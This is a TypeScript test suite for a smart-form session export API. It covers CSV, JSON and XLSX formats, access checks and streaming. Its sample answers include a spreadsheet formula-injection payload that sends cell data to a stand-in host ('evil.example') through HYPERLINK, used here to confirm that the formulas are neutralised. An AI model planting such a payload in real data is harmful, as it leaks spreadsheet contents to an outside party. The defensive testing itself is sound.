import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, expect, it } from 'vitest';
import { seedSessions, seedShape } from '../../../test/support/session-seed.js';
import { publishedSmartForm } from '../../../test/support/smart-form-kit.js';
import { describeEachDialect, type TestServer } from '../../../test/support/test-server.js';
import { exportColumns } from './export-stream.js';

/** Answers that break naive writers: separators, quotes, line breaks, emoji, formulas. */
const TRICKY = [
  'Price, then "support"\nand a second line 🎉 ünïcödé',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1 (555) 0100',
  '-2+3',
  '@SUM(A1:A9)',
];

async function download(t: TestServer, key: string, path: string) {
  const res = await fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${key}` } });
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

describeEachDialect('smart-form export', (t) => {
  let key: string;
  let id: string;
  let ids: string[];
  beforeAll(async () => {
    const account = await t.account('PRO');
    key = account.key;
    ({ id } = await publishedSmartForm(t, key, { title: 'Churn, "why" 2026', maxQuestions: 5 }));
    ids = await seedSessions(t.db, {
      smartFormId: id,
      accountId: account.accountId,
      count: 12,
      answer: (i, q) => (i === 0 ? TRICKY[q - 1]! : `answer ${i}.${q}`),
    });
  });

  it('csv (the default): parsed back, formulas neutralised, a file name, every session', async () => {
    const { res, bytes } = await download(t, key, `/v1/smart-forms/${id}/export`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="churn-why-2026-sessions-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''churn-why-2026-sessions-\d{4}-\d{2}-\d{2}\.csv$/,
    );
    expect(bytes[0]).not.toBe(0xef);
    const rows = parse(bytes, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual(exportColumns(5));
    expect(rows.map((r) => r.session_id)).toEqual(ids);
    const first = rows[0]!;
    expect(first.answer_1).toBe(TRICKY[0]);
    // csv-stringify's escape_formulas: a leading ' makes a spreadsheet show the text.
    expect(first.answer_2).toBe(`'${TRICKY[1]}`);
    expect(first.answer_3).toBe(`'${TRICKY[2]}`);
    expect(first.answer_4).toBe(`'${TRICKY[3]}`);
    expect(first.answer_5).toBe(`'${TRICKY[4]}`);
    expect(first.status).toBe('completed');
    expect(first.sentiment).toBe('positive');
    expect(first.themes).toBe(seedShape(0).themes.join('; '));
    expect(JSON.parse(first.mapped_answers!)).toEqual({ plan: 'basic', seats: 1 });
    // Session 6 is abandoned: no analysis, still exported.
    expect(rows[6]).toMatchObject({ status: 'abandoned', summary: '', sentiment: '' });
    const bom = await download(t, key, `/v1/smart-forms/${id}/export?format=csv&bom=true`);
    expect([...bom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('json: a streamed array that parses, with the transcript as given', async () => {
    const { res, bytes } = await download(t, key, `/v1/smart-forms/${id}/export?format=json`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json');
    expect(res.headers.get('content-disposition')).toContain('.json"');
    const sessions = JSON.parse(bytes.toString('utf8'));
    expect(sessions).toHaveLength(12);
    expect(sessions[0].transcript.map((q: { answer: string }) => q.answer)).toEqual(TRICKY);
    expect(sessions[0]).toMatchObject({
      id: ids[0],
      status: 'completed',
      language: 'en',
      sentiment: { label: 'positive', score: 0.7 },
      themes: seedShape(0).themes,
    });
  });

  it('xlsx: read back by exceljs, text cells only (no formula), emoji intact', async () => {
    const { res, bytes } = await download(t, key, `/v1/smart-forms/${id}/export?format=xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain('.xlsx"');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(13);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual(exportColumns(5));
    const col = (name: string) => exportColumns(5).indexOf(name) + 1;
    const row = sheet.getRow(2);
    expect(row.getCell(col('session_id')).value).toBe(ids[0]);
    for (let q = 1; q <= 5; q++) {
      const cell = row.getCell(col(`answer_${q}`));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(TRICKY[q - 1]);
    }
    expect(row.getCell(col('sentiment_score')).value).toBe(0.7);
  });

  it('answers 404 for another account and 400 for an unknown format', async () => {
    const other = await t.account('PRO');
    expect((await t.request(`/v1/smart-forms/${id}/export`, { key: other.key })).status).toBe(404);
    const bad = await t.request(`/v1/smart-forms/${id}/export?format=pdf`, { key });
    expect(bad.status).toBe(400);
  });

  it('leaves the database free while it streams, and stops when the client goes away', async () => {
    const account = await t.account('PRO');
    const { id: big } = await publishedSmartForm(t, account.key);
    await seedSessions(t.db, { smartFormId: big, accountId: account.accountId, count: 4_000, questions: 8 });
    const abort = new AbortController();
    const res = await fetch(`${t.url}/v1/smart-forms/${big}/export?format=json`, {
      headers: { authorization: `Bearer ${account.key}` },
      signal: abort.signal,
    });
    const reader = res.body!.getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    // The export waits for this reader; the database stays free for everyone else meanwhile.
    const during = await t.request(`/v1/smart-forms/${big}/sessions?limit=1`, { key: account.key });
    expect(during.status).toBe(200);
    expect(during.body.data.total).toBe(4_000);
    abort.abort();
    await reader.closed.catch(() => {});
    const next = await t.request(`/v1/smart-forms/${big}`, { key: account.key });
    expect(next.status).toBe(200);
    const whole = await download(t, account.key, `/v1/smart-forms/${big}/export?format=json`);
    // 40 pages on SQLite: every session once, oldest first, each with its own questions (checked
    // against the database around the page boundaries).
    const sessions = JSON.parse(whole.bytes.toString('utf8')) as {
      id: string;
      startedAt: string;
      transcript: unknown[];
    }[];
    expect(sessions).toHaveLength(4_000);
    expect(new Set(sessions.map((s) => s.id)).size).toBe(4_000);
    const started = sessions.map((s) => s.startedAt);
    expect(started).toEqual([...started].sort());
    for (const i of [0, 99, 100, 101, 2_345, 3_999]) {
      const stored = await t.db
        .selectFrom('smart_form_questions')
        .select(['text', 'answer'])
        .where('session_id', '=', sessions[i]!.id)
        .orderBy('idx')
        .execute();
      expect(stored.length, `session ${i}`).toBeGreaterThan(0);
      expect(sessions[i]!.transcript).toEqual(stored.map((q) => ({ question: q.text, answer: q.answer })));
    }
  });
});
